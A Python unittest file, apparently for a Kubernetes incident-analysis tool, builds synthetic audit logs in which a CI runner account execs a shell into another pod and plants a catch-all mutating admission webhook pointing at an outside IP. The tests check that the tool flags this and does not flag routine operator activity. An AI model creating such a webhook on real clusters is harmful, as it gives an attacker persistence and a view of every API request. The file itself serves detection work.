"""The attacker comes from another workload: its account enters the pod, the pod's token is used
from there, and a webhook and a CronJob stay. An operator that does so every day is nobody's."""
import json
import sys
import unittest
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import KUBECTL, Case, account, lines  # noqa: E402
from made_responses import INSIDE  # noqa: E402
from test_kube_reach import WEB, Reach, shop  # noqa: E402

RUNNER, RUNS_AT = account("ci", "runner"), "10.42.3.14"
KIND = "mutatingwebhookconfigurations"
OF_POD = {"authentication.kubernetes.io/pod-name": ["runner-1"],
          "authentication.kubernetes.io/pod-uid": ["u"]}


class Sideways(Reach):
    agent = KUBECTL

    def case(self, daily):
        c = Case("sideways", "2026-10-21")
        tool = {"agent": self.agent, "source": RUNS_AT, "extra": OF_POD, "groups": INSIDE}
        enter = ("create", "pods/exec shop/web-0", 101)
        for at in range(0, 2000, 400) if daily else ():
            c.request(at, RUNNER, *enter, query="?command=sh", **tool)
        c.request(10, WEB, "get", "configmaps shop/web", agent="web/1.0", source="10.8.2.9",
                  groups=INSIDE)
        c.request(2400, RUNNER, "create", "selfsubjectrulesreviews", 201, **tool)
        c.request(2460, RUNNER, *enter, query="?command=sh", **tool)
        if not daily:
            hook = {"kind": "MutatingWebhookConfiguration", "metadata": {"name": "h"}, "webhooks": [
                {"name": "h.x", "clientConfig": {"url": "https://185.193.126.9/"}, "rules": [{
                    "operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"],
                    "resources": ["*"]}]}]}
            c.request(2700, RUNNER, "create", f"{KIND} h", 201, body=hook,
                      group="admissionregistration.k8s.io", **tool)
        c.request(3600, "bia", "list", "pods shop/")
        return c

    def tell(self, daily):
        c = self.case(daily)
        other = shop(c)
        other["metadata"] = {**other["metadata"], "name": "runner-1", "namespace": "ci"}
        text = ("Cronología, 21 de octubre de 2026, hora de la Ciudad de México\n\n"
                "04:45 El atacante creó el webhook h\n04:50 Raul eliminó el webhook h\n"
                "04:51 Raul rotó el secreto pagos\n")
        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
                      "others.json": json.dumps({"apiVersion": "v1", "kind": "List",
                                                 "items": [other]}),
                      "cronologia.txt": text})

    def test_the_other_workload_is_followed(self):
        self.tell(False)
        self.assertEqual(self.documents["scope"]["pod"], "web-0")
        self.assertEqual([f["subject"] for f in self.found("kube.workload-entered")], [RUNNER])
        self.assertEqual(self.documents["patient_zero"]["time"][11:19], "10:40:00")
        self.assertEqual([r["object"] for r in self.documents["containment"]["remains"]], ["h"])
        asked = json.dumps(self.documents["story"]["open_questions"])
        self.assertIn("How did the attacker get into pod ci/runner-1?", asked)
        self.assertEqual([x["verdict"] for x in self.documents["claims"]["claims"]],
                         ["supported", "contradicted", "contradicted"])

    def test_daily_work_of_an_operator_is_not(self):
        self.tell(True)
        self.assertEqual(self.found("kube.workload-entered"), [])

    def test_an_operator_with_its_own_client_is_not(self):
        self.agent = "velero-server/v1.14.1 (linux/amd64) 8afe3cea8b-dirty"
        self.tell(False)
        self.assertEqual(self.found("kube.workload-entered"), [])


if __name__ == "__main__":
    unittest.main()
